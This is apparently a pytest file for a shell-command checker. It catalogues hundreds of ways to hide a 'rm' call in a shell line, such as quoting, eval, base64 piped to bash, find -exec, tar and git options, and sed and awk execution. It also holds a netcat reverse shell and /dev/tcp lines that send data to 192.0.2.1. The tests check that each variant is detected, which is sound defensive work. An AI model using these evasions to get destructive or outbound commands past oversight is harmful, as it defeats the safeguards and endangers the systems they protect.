"""Ways to hide a command in a line: each is found out, or the line is in doubt, which no policy permits unasked."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from decisions.engine.metatools import STANDARD
from decisions.intake.shell.doubts import Doubt
from decisions.intake.shell.programs import read_script
from decisions.intake.shell.steps import Command, Found


def read(script: str) -> Found:
    return read_script(script, runners=STANDARD.runners)


def runs(found: Found, program: str) -> bool:
    return any(isinstance(step, Command) and step.program == program for step in found.steps)


# Each of these runs `rm` in bash, as the last test makes sure of.
RUN_BY_BASH = r"""
r\m x
'r'm x
r""m x
$'rm' x
$'\x72m' x
{rm,x}
rm${IFS}x
x=rm; $x y
$(echo rm) x
`echo rm` x
eval "rm x"
eval 'r''m x'
echo 'rm x' | sh
echo cm0geA== | base64 -d | bash
bash <<< 'rm x'
bash < <(echo rm x)
bash <(echo rm x)
source <(echo rm x)
echo rm x | bash /dev/stdin
sh -c 'rm x'
bash -xc 'rm x'
bash --norc -c 'rm x'
bash -O extglob -c 'rm x'
bash +O extglob -c 'rm x'
bash -o posix -c 'rm x'
bash -c -- 'rm x'
bash -c -e 'rm x'
bash -c +e 'rm x'
bash -c '$0 x' rm
env rm x
env - PATH="$PATH" NOTES="$NOTES" rm x
env -S 'rm x'
env --split-string='rm x'
env -vS 'rm x'
env -C / rm x
echo x | xargs rm
echo rm | xargs -I{} env {} x
echo rm | xargs -I ls env ls x
echo rm x | xargs -I {} sh -c '{}'
echo rm x | xargs -d '\n' sh -c
echo -c rm | xargs bash
command rm x
builtin command rm x
builtin eval rm x
exec -a ls rm x
nohup rm x
nice -n 5 rm x
nice -5 rm x
timeout 5 rm x
timeout -s KILL 5 rm x
setsid -w rm x
time rm x
time -p rm x
time ! rm x
time { rm x; }
time if rm x; then :; fi
time while rm x; do break; done
! rm x
{ rm x; }
(rm x)
if rm x; then :; fi
i\
f rm x; then :; fi
while rm x; do break; done
whil\
e rm x; do break; done
case x in x) rm y;; esac
for x in a; do rm x; done
for x in rm; do $x y; done
for x in rm; do $\
x y; done
for x in 'a[$(rm y)]'; do echo $((x)); done
set -- x; for x do rm y; done
select x in a; do rm x; break; done <<< 1
f() { rm x; }; f
function f { rm x; }; f
coproc rm x; wait
trap 'rm x' EXIT
shopt -s expand_aliases; eval 'alias ls=rm
ls x'
echo $(rm x)
echo "$(rm x)"
echo "`rm x`"
echo ${Y:-$(rm x)}
echo $((`rm x`1))
echo <(rm x); wait
cat <<E
$(rm x)
E
cat <<E\
F
$(rm x)
EF
LANG=$(rm x) true
LANG['$(rm x)']=1
test -v 'a[$(rm x)]'
[ -v 'a[$(rm x)]' ]
[[ 'a[$(rm x)]' -eq 1 ]]
(( a[$(rm x)] ))
let 'a[$(rm x)]=1'
printf -v 'a[$(rm x)]' x
compgen -C 'rm x'
mapfile -C 'rm x' -c 1 y <<< z
find . -maxdepth 0 -exec rm {} \;
find . -maxdepth 0 -exec sh -c 'rm $0' {} \;
find . -maxdepth 0 "$(echo -exec)" rm {} +
for x in -exec; do find . -maxdepth 0 "$x" rm {} \; ; done
awk 'BEGIN{system("rm x")}'
awk 'BEGIN{"rm x" | getline}'
sed '1e rm x' /etc/passwd
sed -n '1s/.*/rm x/e' /etc/passwd
tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='rm x' /etc/passwd
tar cf /dev/null --checkpoint=1 --checkpoint-ac=exec='rm x' /etc/passwd
tar cf /dev/null -I 'rm x;cat' /etc/passwd
split --filter='rm x' /etc/passwd
python3 -c 'import os; os.system("rm x")'
python3 -Sc 'import os; os.system("rm x")'
python3 -W ignore -c 'import os; os.system("rm x")'
echo 'import os; os.system("rm x")' | python3
perl -e 'system("rm x")'
perl -ne 'system("rm x"); exit' /etc/passwd
perl -M'POSIX;system("rm x");' /dev/null
"""
# These need what is not everywhere, or another shell.
ELSEWHERE = r"""
unset 'a[$(rm x)]'
/bin/rm x
//bin/rm x
/usr/bin/../bin/rm x
/bin/r? x
/b*n/rm x
/opt/homebrew/bin/bash -c 'rm x'
./bash -c 'rm x'
bash.exe -c 'rm x'
bash-5.2 -c 'rm x'
mksh -c 'rm x'
yash -c 'rm x'
busybox rm x
busybox sh -c 'rm x'
sudo rm x
sudo -s rm x
sudo -i
sudo --preserve-env=PATH rm x
find . -exec sudo -u + rm x {} \;
doas -s
rm​ x
rm x
PATH=/tmp ls
P\
ATH=/tmp ls
echo $((PATH=1)); ls
ls {PATH}>x; ls
for path in /tmp; do ls; done
LD_PRELOAD=x ls
GIT_SSH_COMMAND='rm x' git pull
PAGER='rm x' git log
COLUMNS='a[$(rm x)]' ls
[ 'a[$(rm x)]' -eq 1 ]
printf '%d' 'a[$(rm x)]'
jobs -x rm x
wait -p 'a[$(rm x)]'
complete -C 'rm x' y
bind -x '"a": rm x'
emulate sh -c 'rm x'
=rm x
- rm x
{ ls } always { rm x }
if { true } { rm x }
repeat 2 { rm x }
foreach x (a) rm x; end
ls >! y
ls 12>y rm
cd /tmp && ./ls
pushd /tmp; ../ls
find . -execdir ./x \;
exec 3<>/dev/tcp/192.0.2.1/80
cat x > /dev/tcp/192.0.2.1/80
watch rm x
watch 'rm x'
parallel rm ::: x
script -c 'rm x'
su -c 'rm x'
runuser -u bob -- rm x
pkexec rm x
chroot / rm x
unshare rm x
nsenter -t 1 rm x
flock /tmp/l rm x
strace rm x
gdb -ex '!rm x'
taskset 1 rm x
systemd-run rm x
crontab -
at now
/lib64/ld-linux-x86-64.so.2 /bin/rm x
tmux new 'rm x'
vim -c '!rm x'
ed x
socat exec:rm -
nc -e /bin/sh 192.0.2.1 1
less '+!rm x' f
man -P 'rm x' ls
git -c core.pager='rm x' log
git -c alias.x='!rm x' x
git config alias.x '!rm x'
git rebase -x 'rm x' main
git rebase -ix 'rm x' main
git submodule foreach 'rm x'
git bisect run rm x
git grep -O'rm x' y
git clone 'ext::rm x'
git clone -u 'rm x' y
git fetch --upload-pa='rm x' y
git fetch "$X"
ssh -oProxyCommand='rm x' h
ssh -4oProxyCommand='rm x' h
scp -S /tmp/x a b:
rsync -e 'rm x' a b:
rsync -ae 'rm x' a b:
rg --pre rm x
fd . -x rm
sort --compress-program=rm x
sort $X
sort "$X"
tar cf x *
tar xIf rm x
make SHELL='rm x'
make --eval 'x:;rm y'
make -f -
gcc -wrapper rm,x y.c
wget --use-askpass=rm x
zip x y -TT 'rm x'
install -s --strip-program=rm a b
ruby -e '`rm x`'
node -e 'x'
node --eval=x
node --import 'data:text/javascript,x' y.js
node -r ./x y.js
deno eval x
deno run -
bun -e x
php -r 'x'
php -d auto_prepend_file=x y.php
lua -e 'x'
fish -c 'rm x'
tcsh -c 'rm x'
pwsh -Command 'rm x'
powershell -enc cgBtACAAeAA=
cmd.exe /c del x
osascript -e 'do shell script "rm x"'
python3.12 -c x
/usr/bin/python3 -c x
.venv/bin/python -c x
python -m timeit 'import os'
python -mpdb x
python "$X"
python3 /dev/stdin
Rscript -e 'x'
gawk -e 'BEGIN{system("rm x")}'
gawk --include x y
awk -f - x
awk "$X"
awk 'BEGIN{f="sys" "tem"; @f("rm x")}'
awk '{print > "/etc/passwd"}' x
sed -n 'w /etc/passwd' x
sed 's/x/rm/w /etc/passwd' x
sed -f x.sed y
sed "$X" y
sed -e p -e "$X" y
sed 's/[/]e;s/x]/y/' z
sed 's/[a/]/b/' y
"""


def lines(text: str) -> list[str]:
    """One script a line; one that goes on to the next has a backslash there, or stands in quotes or a document."""
    found: list[str] = []
    is_open = False
    for line in text.strip("\n").split("\n"):
        if is_open:
            found[-1] += "\n" + line
        else:
            found.append(line)
        is_open = line.endswith("\\") or _is_unfinished(found[-1])
    return found


def _is_unfinished(script: str) -> bool:
    rows = script.split("\n")
    end = rows[0].partition("<<E")[2]
    if "<<E" in rows[0] and "<<<" not in rows[0]:
        return rows[-1] != ("EF" if end.startswith("\\") else "E")
    return script.count("'") % 2 == 1 and "\\'" not in script


@pytest.mark.case("API-10")
@pytest.mark.parametrize("script", [*lines(RUN_BY_BASH), *lines(ELSEWHERE)])
def test_what_is_hidden_in_a_line_is_found_or_the_line_is_in_doubt(script: str) -> None:
    found = read(script)
    assert found.doubts or runs(found, "rm")


@pytest.mark.case("API-10")
@pytest.mark.parametrize(
    "script",
    [
        "git status && git -C src log --stat && git --no-pager diff --stat HEAD~1 -- x && git config --get user.name",
        "git commit -am \"$(cat <<'E'\nfix\nE\n)\"",
        'git switch -c new && git push -u origin new && git checkout -b "$NAME"',
        "git",
        "git -C",
        "tar xzf a.tar -C /tmp && tar -cf b.tar c",
        'tar -cf x -- "$Y"',
        "sort -u a | uniq -c | head -n 5",
        "python3 -- x.py && python3 x.py --flag \\\n  --more",
        "python3 -m pytest -x && python3 -u -B y.py && python --version",
        "node x.js --eval; node --test; ruby x.rb; perl -w x.pl; php -l y.php; deno run x.ts; bun install; Rscript x.R",
        "awk -F, '{print $1}' x && awk -v n=1 '$1 == n || $2 > 5' x && awk -f x.awk y",
        "awk -F, && awk -- '{n++} END {print n}'",
        "sed -n '1,5p' x; sed -i.bak -e 's/a/b/g; 3d' -e '/x/!d' y; sed '$!N;s|a|b|;y/ab/cd/' z",
        "sed --version; sed --expression=p x",
        "sed -E '/^a/,/b$/{s/[0-9]+/N/gI;p}' x; sed '2i\\added' z; sed ':a;N;ba' -- -x; sed",
        'find . -name \'*.py\' -newer x; find "$HOME" -name y; find . -name "$X" -print; find "$X"; find .',
        "make -j4 test; ssh host uptime; rsync -a a b; less x; rg -n foo src; wget -qOe https://a.example; fd x",
        "[ -x x ] && test -f y; printf '%s' 'a'; exit 1; kill -9 1; wait",
        "cd src && ls && cat x; cat /dev/null",
        "{ a; } | b; while a; do b; done < f; if a; then b; fi > g",
        "seq 3 | xargs -n1 echo; seq 3 | xargs -I% cp a.% b",
        "./script x; ./at now; ./install --x",
    ],
)
def test_what_everybody_writes_is_not_in_doubt(script: str) -> None:
    assert read(script).doubts == frozenset()


def test_a_program_that_lies_elsewhere_is_looked_into_and_stands_for_itself() -> None:
    steps = read("/opt/bash -c 'rm x'; /opt/env rm y; sh -c ls").steps
    told = [(step.program, step.only_runs) for step in steps if isinstance(step, Command)]
    assert [program for program, only_runs in told if not only_runs] == ["/opt/bash", "rm", "/opt/env", "rm", "ls"]
    assert [program for program, only_runs in told if only_runs] == ["sh"]


def test_a_file_that_find_writes_is_written() -> None:
    found = read("find . -fprintf /etc/x %p")
    assert str(found.steps[1]) == "Redirection(kind='write', path='/etc/x')"
    assert read("find . -fprint").doubts == frozenset()


def test_a_long_script_of_sed_is_answered_at_once() -> None:
    for script in ("b" + " " * 30_000, "s/" + "a" * 30_000, "1" + " " * 30_000, "\\" * 30_000, "[" * 30_000):
        assert read(f"sed '{script}?'").doubts == {Doubt.CODE}


NOTING = """#!/bin/sh
echo rm >> "$NOTES"
"""


@pytest.mark.parametrize("script", lines(RUN_BY_BASH))
def test_it_is_no_invention_that_bash_runs_it(script: str, tmp_path: Path) -> None:
    program, notes = tmp_path / "bin" / "rm", tmp_path / "notes"
    program.parent.mkdir()
    program.write_text(NOTING)
    program.chmod(0o700)
    bash, path = shutil.which("bash"), f"{program.parent}:/usr/bin:/bin"
    assert bash is not None
    environment = {"PATH": path, "NOTES": str(notes), "HOME": "/nowhere", "LC_ALL": "C"}
    subprocess.run([bash, "-c", script], env=environment, cwd=tmp_path, capture_output=True, timeout=60, check=False)
    assert notes.exists()
